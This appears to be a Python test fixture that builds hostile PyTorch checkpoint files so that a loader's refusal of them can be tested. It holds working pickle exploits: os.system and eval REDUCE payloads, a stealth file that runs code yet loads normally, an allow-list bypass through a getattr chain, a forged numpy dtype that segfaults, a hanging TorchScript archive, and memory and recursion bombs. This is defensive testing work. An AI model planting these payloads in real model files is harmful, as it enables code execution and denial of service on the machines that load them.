"""Hostile checkpoint files, written in the real formats torch reads (legacy, zip, TorchScript).

Each ``write_*`` function writes one file at ``path`` whose loading with full unpickling creates
``marker`` (or hangs / corrupts memory, as said), so a test can prove both that the payload is
real (trusted loading runs it) and that mmmimic's loader refuses it.
"""
import copyreg
import io
import os
import pickle
import struct
from collections import OrderedDict
from typing import Tuple

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

LEGACY_MAGIC = 0x1950a86a20f9469cfc6c


class Call:
    """Pickles as ``fn(*args)``: one REDUCE record (``fn`` may itself be a :class:`Call`)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __call__(self, *args):  # pickle insists that a reduce callable be callable
        raise AssertionError('only for pickling')

    def __reduce__(self):
        return self.fn, self.args


class Build:
    """Pickles as ``fn(*args)`` followed by BUILD with ``state``."""

    def __init__(self, fn, args, state):
        self.fn, self.args, self.state = fn, args, state

    def __reduce__(self):
        return self.fn, self.args, self.state


def _touch_code(marker: str) -> str:
    return f'open({marker!r}, "w").close()'


def _genuine_checkpoint() -> dict:
    return {'state_dict': OrderedDict(w=torch.arange(4.)), 'meta': {'iter': 3}}


def _first_pickle_length(data: bytes) -> int:
    buf = io.BytesIO(data)
    pickle.Unpickler(buf).load()
    return buf.tell()


def write_legacy_reduce_first(path: str, marker: str) -> None:
    """Legacy format, a REDUCE payload (``os.system``) in place of the magic-number record."""
    genuine = io.BytesIO()
    torch.save(_genuine_checkpoint(), genuine, _use_new_zipfile_serialization=False)
    with open(path, 'wb') as f:
        pickle.dump(Call(os.system, f'touch {marker}'), f, protocol=2)
        f.write(genuine.getvalue())


def write_legacy_stealth(path: str, marker: str) -> None:
    """Legacy format whose first record runs code *and returns the magic number*, followed by
    the rest of a genuine legacy checkpoint: with full unpickling it loads normally."""
    genuine = io.BytesIO()
    torch.save(_genuine_checkpoint(), genuine, _use_new_zipfile_serialization=False)
    data = genuine.getvalue()
    rest = data[_first_pickle_length(data):]
    code = f'{_touch_code(marker)} or {LEGACY_MAGIC}'
    with open(path, 'wb') as f:
        pickle.dump(Call(eval, code), f, protocol=2)
        f.write(rest)


def write_zip_os_system(path: str, marker: str) -> None:
    torch.save({'state_dict': OrderedDict(), 'x': Call(os.system, f'touch {marker}')}, path)


def write_zip_eval(path: str, marker: str) -> None:
    torch.save({'state_dict': OrderedDict(), 'x': Call(eval, _touch_code(marker))}, path)


def write_zip_getattr_chain(path: str, marker: str) -> None:
    """``getattr`` from the allow-listed HistoryBuffer to ``eval``, with no other global."""
    init = Call(getattr, HistoryBuffer, '__init__')
    builtins_dict = Call(getattr, init, '__builtins__')
    get = Call(getattr, builtins_dict, 'get')
    run = Call(Call(get, 'eval'), _touch_code(marker))
    torch.save({'state_dict': OrderedDict(), 'message_hub': {'x': run}}, path)


def write_numpy_object_forgery(path: str) -> None:
    """An mmengine-like checkpoint whose rng_state holds an array of a structured dtype with
    object fields but cleared flags, filled from raw bytes: numpy takes the bytes as object
    pointers and the process dies with a segmentation fault."""
    forged_dtype = Build(np.dtype, ('V16', False, True),
                         (3, '|', None, ('a', 'b'), {'a': (np.dtype('O'), 0),
                                                     'b': (np.dtype('O'), 8)}, 16, 1, 0))
    array = Build(np.core.multiarray._reconstruct, (np.ndarray, (0, ), b'b'),
                  (1, (1, ), forged_dtype, False, struct.pack('<QQ', 0x41414141, 0x42424242)))
    ckpt = _genuine_checkpoint()
    ckpt['rng_state'] = {'numpy': ('MT19937', array, 0, 0, 0.0)}
    torch.save(ckpt, path)


class _LoopingModule(torch.nn.Module):

    def __init__(self):
        super().__init__()
        self.steps = 1

    @torch.jit.export
    def __getstate__(self) -> Tuple[int, bool]:
        return self.steps, self.training

    @torch.jit.export
    def __setstate__(self, state: Tuple[int, bool]) -> None:
        self.steps = state[0]
        self.training = state[1]
        count = 0
        while self.steps > 0:  # never ends: runs as soon as the archive is loaded
            count = count + 1

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.steps


def write_torchscript_loop(path: str) -> None:
    """A TorchScript archive whose ``__setstate__`` never returns."""
    torch.jit.save(torch.jit.script(_LoopingModule()), path)


MARKER_PAYLOADS = {
    'legacy_reduce_first': write_legacy_reduce_first,
    'legacy_stealth': write_legacy_stealth,
    'zip_os_system': write_zip_os_system,
    'zip_eval': write_zip_eval,
    'zip_getattr_chain': write_zip_getattr_chain,
}


class NewObj:
    """Pickles as one NEWOBJ record ``cls.__new__(cls, *args)``, skipping ``cls``'s checks."""

    def __init__(self, cls, *args):
        self._cls, self.args = cls, args

    @property
    def __class__(self):  # pickle insists that NEWOBJ's class be the object's class
        return self._cls

    def __reduce__(self):
        return copyreg.__newobj__, (self._cls, *self.args)


def with_meta_entry(path: str, value) -> None:
    ckpt = _genuine_checkpoint()
    ckpt['meta']['x'] = value
    torch.save(ckpt, path)


def write_newobj_object_array(path: str) -> None:
    """``ndarray.__new__((2,), 'O', 16 bytes)``: an object array over forged pointers."""
    with_meta_entry(path, NewObj(np.ndarray, (2, ), 'O', b'A' * 16))


#: NEWOBJ / REDUCE records of a ~1.5 kB file that each ask for 1 GiB
MEMORY_PAYLOADS = {
    'newobj_array_1gib': lambda: NewObj(np.ndarray, (2**27, ), 'f8'),
    'bytearray_1gib': lambda: Call(bytearray, 2**30),
    'float_tensor_1gib': lambda: Call(torch.FloatTensor, 2**28),
}


def write_legacy_storage_claim(path: str, numel: int = 2**28) -> None:
    """A legacy checkpoint whose storage record claims ``numel`` floats (the file holds 3)."""
    genuine = io.BytesIO()
    torch.save({'state_dict': OrderedDict(w=torch.arange(3.))}, genuine,
               _use_new_zipfile_serialization=False)
    data = genuine.getvalue()
    assert data.count(b'K\x03Nt') == 1  # BININT1 3, NONE, TUPLE: the storage's element count
    with open(path, 'wb') as f:
        f.write(data.replace(b'K\x03Nt', b'J' + struct.pack('<i', numel) + b'Nt'))


def shared_fan_out(levels: int = 30, width: int = 10) -> list:
    """``levels`` levels of ``width`` references to one list: width**levels paths, a few kB."""
    value = [1]
    for _ in range(levels):
        value = [value] * width
    return value


def deep_nesting(depth: int = 5000) -> list:
    value = []
    for _ in range(depth):
        value = [value]
    return value


def self_containing() -> list:
    value = [1]
    value.append(value)
    return value
